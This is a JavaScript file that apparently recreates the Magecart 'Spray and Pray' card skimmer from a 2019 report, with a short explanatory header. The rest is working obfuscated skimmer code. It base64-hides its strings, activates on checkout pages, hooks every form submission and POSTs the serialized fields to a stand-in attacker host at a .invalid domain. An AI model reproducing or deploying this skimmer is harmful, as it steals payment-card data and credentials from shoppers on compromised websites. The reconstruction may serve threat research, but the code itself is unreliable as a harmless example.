// s3-spray, written from RiskIQ (Yonathan Klijnsma), "Magecart Group 'Spray and Pray'
// campaign compromises misconfigured Amazon S3 buckets" (2019): the skimmer was appended to
// every JavaScript file in publicly writable S3 buckets, whatever site used them; it checks the
// page for the word "checkout", and on submit of any form sends all its fields, base64-encoded,
// to the attackers' host (here .invalid) with a POST.
;(function () {
  var _0x = ["Y2hlY2tvdXQ=", "aHR0cHM6Ly9jZG5zLXN0YXRpY2xpYi5pbnZhbGlkL2FwaS9sb2c=", "c3VibWl0"];
  function s(i) { return atob(_0x[i]); }
  function check() { return location.href.toLowerCase().indexOf(s(0)) > -1; }
  function serialize(form) {
    var o = {};
    for (var i = 0; i < form.elements.length; i++) {
      var e = form.elements[i];
      if (!e.name || e.type === "hidden" || e.type === "submit") continue;
      o[e.name] = e.value;
    }
    return o;
  }
  function hook() {
    if (!check()) return;
    var forms = document.forms;
    for (var i = 0; i < forms.length; i++) {
      if (forms[i].__s3) continue;
      forms[i].__s3 = true;
      forms[i].addEventListener(s(2), function () {
        var body = "data=" + encodeURIComponent(btoa(JSON.stringify({ f: serialize(this), u: location.href })));
        var x = new XMLHttpRequest();
        x.open("POST", s(1), false);
        x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
        try { x.send(body); } catch (e) {}
      });
    }
  }
  setInterval(hook, 3000);
})();
